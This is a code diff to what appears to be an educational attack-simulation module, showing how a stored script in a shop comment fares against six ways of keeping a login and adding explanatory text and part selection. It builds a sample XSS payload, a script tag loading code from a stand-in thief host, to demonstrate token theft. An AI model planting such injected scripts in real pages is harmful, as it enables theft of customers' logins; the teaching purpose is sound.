@@ -1,11 +1,12 @@
 """A stored script in a page (XSS), against six ways to keep a login."""
 
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable, Mapping, Sequence
 from itertools import groupby
+from typing import ClassVar
 
 from accounts.attacks._base import Attack, Cell, Defence, Reading, Result, Row, Stop
 from accounts.attacks.stage.hosts import Party, origin_of
-from accounts.attacks.stage.houses import HOUSES, House
+from accounts.attacks.stage.houses import HOUSES, House, house_words
 from accounts.models import AttackAct, AttackPlay
 
 NO_LOOT = "nothing to use"
@@ -64,21 +65,35 @@ class ScriptInAComment(Attack):
         "real one could do with a form that looks like the shop's."
     )
     order = 10
+    words: ClassVar = {
+        "house": "One way to keep a login in the shop’s page. The same customer is robbed in six.",
+        **house_words(HOUSES),
+        "proofs made in advance": "The script cannot take the key along. But while the tab is open "
+        "it can use it, and signs twenty proofs for orders that come later.",
+        "by its refresh token": "The access token had expired. The refresh token was carried away "
+        "with it, and the thief’s server got a new one for it.",
+    }
 
     def walk(self, play: AttackPlay) -> Sequence[Stop]:
         comment = f'Nice lamp! <script src="{origin_of(Party.THIEF, play.home)}/x.js"></script>'
         wait = WAIT if "short-life" in play.defences else 0
-        return [stop for house in HOUSES for stop in _stops(house, comment, wait)]
+        houses = [house for house in HOUSES if play.has_part(house.slug)]
+        return [stop for house in houses for stop in _stops(house, comment, wait)]
+
+    @classmethod
+    def parts(cls) -> Mapping[str, str]:
+        return {house.slug: house.title for house in HOUSES}
 
     def result(self, play: AttackPlay, acts: Sequence[AttackAct]) -> Result:
-        rows = [_row(house, [act for act in acts if act.house == house.slug]) for house in HOUSES]
+        houses = [house for house in HOUSES if play.has_part(house.slug)]
+        rows = [_row(house, [act for act in acts if act.house == house.slug]) for house in houses]
         played = [row for row in rows if row.cells[0].went_well is not None]
         if not played:
             return Result(COLUMNS, rows, "Not played yet.")
         ridden, later = (
             [row for row in played if row.cells[number].went_well is False] for number in (1, 2)
         )
-        solved = _solved(later, is_safe=len(played) == len(rows) and not ridden)
+        solved = _solved(later, is_safe=len(played) == len(HOUSES) and not ridden)
         return Result(COLUMNS, rows, _sentence(len(ridden), len(later), len(played)), solved)
 
 
@@ -180,6 +195,8 @@ def _sentence(ridden: int, later: int, total: int) -> str:
         return "The script got nothing through."
     if not later:
         return "The script could use the login while the tab was open, and not afterwards."
+    if total == 1:
+        return "The open tab let orders through, and so did the thief’s server after it was closed."
     return (
         f"The open tab let orders through in {ridden} of {total} houses. After it was closed, "
         f"{later} still did, and {total - later} did not: what a script cannot read, it can use, "
